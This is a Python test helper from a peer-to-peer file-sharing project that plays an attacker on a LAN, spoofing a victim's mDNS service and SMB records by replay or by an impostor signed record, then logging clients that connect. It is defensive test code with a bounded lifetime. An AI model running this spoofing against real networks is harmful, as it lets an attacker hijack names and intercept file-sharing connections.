"""A third PC on the LAN that tries to take over a peer's name over mDNS (for spoofing tests).

Run inside the attacker's namespace::

    ip netns exec NS python tests/helpers/mdns_attacker.py --victim PC1 --mode replay \
        --address 10.77.3.3 --listen 445

``--mode replay``: resolve the victim's real ``_peerwork._tcp`` record and
announce its TXT byte for byte, but on host ``<victim>.local.`` at the
attacker's address (the attack that worked when addresses were unsigned).
``--mode impostor``: announce the victim's name under a fresh key of the
attacker's, correctly signed, naming the attacker's address and SMB port.

Either way ``_smb._tcp`` is claimed too, the records are announced again
every ``--every`` seconds (so they keep winning peers' caches), and a TCP
listener on ``--listen`` prints ``{"event": "connection", ...}`` for every
client that falls for it. Lines on stdout are JSON: ``announced`` once the
records are out, ``failed`` if the victim cannot be resolved.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import signal
import sys
from typing import Any

from zeroconf import IPVersion
from zeroconf.asyncio import AsyncServiceInfo, AsyncZeroconf

from peerwork import PROTOCOL_VERSION
from peerwork.identity import Identity
from peerwork.proto.peer_record import SERVICE_TYPE, PeerAnnouncement, build_txt

SMB_TYPE = "_smb._tcp.local."


def out(obj: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


async def peer_txt(azc: AsyncZeroconf, args: argparse.Namespace) -> bytes | dict[str, Any] | None:
    if args.mode == "impostor":
        me = Identity.generate(args.victim)
        ann = PeerAnnouncement(
            instance=args.victim,
            peer_id=me.peer_id,
            public_key=me.public_raw,
            workgroup=args.workgroup,
            version=PROTOCOL_VERSION,
            seq=2**62,
            addresses=(args.address,),
            ports={"smb": args.listen},
            roles=("files",),
            extra={"sh": "docs"},
        )
        return build_txt(ann, me.sign)
    real = AsyncServiceInfo(SERVICE_TYPE, f"{args.victim}.{SERVICE_TYPE}")
    for _ in range(10):
        if await real.async_request(azc.zeroconf, 1500):
            return real.text
    return None


async def run(args: argparse.Namespace) -> int:
    azc = AsyncZeroconf(interfaces=[args.address], ip_version=IPVersion.V4Only)
    connections = 0

    async def caught(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal connections
        connections += 1
        out({"event": "connection", "peer": writer.get_extra_info("peername")})
        writer.close()

    server = await asyncio.start_server(caught, "0.0.0.0", args.listen)
    txt = await peer_txt(azc, args)
    if txt is None:
        out({"event": "failed", "reason": f"{args.victim} did not answer"})
        await azc.async_close()
        return 1
    host = f"{args.victim}.local."
    infos = [
        AsyncServiceInfo(
            type_,
            f"{args.victim}.{type_}",
            port=port,
            properties=props,
            server=host,
            parsed_addresses=[args.address],
            host_ttl=120,
            other_ttl=120,
        )
        for type_, port, props in ((SERVICE_TYPE, 0, txt), (SMB_TYPE, args.listen, {}))
    ]
    for info in infos:
        await azc.async_register_service(info, cooperating_responders=True)
    out({"event": "announced", "mode": args.mode})
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    rounds = int(args.lifetime / args.every)
    for _ in range(rounds):  # bounded: never outlives the test
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), args.every)
        if stop.is_set():
            break
        for info in infos:
            await azc.async_update_service(info)
    server.close()
    # No goodbye: an attacker would not send one, and it would remove the real
    # peer's shared PTR record from caches too.
    azc.zeroconf.registry.async_remove(infos)
    await azc.async_close()
    out({"event": "stopped", "connections": connections})
    return 0


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--victim", required=True)
    parser.add_argument("--mode", choices=("replay", "impostor"), required=True)
    parser.add_argument("--address", required=True, help="the attacker's own address")
    parser.add_argument("--workgroup", default="OFFICE")
    parser.add_argument("--listen", type=int, default=445)
    parser.add_argument("--every", type=float, default=1.0)
    parser.add_argument("--lifetime", type=float, default=60.0)
    return asyncio.run(run(parser.parse_args()))


if __name__ == "__main__":
    sys.exit(main())
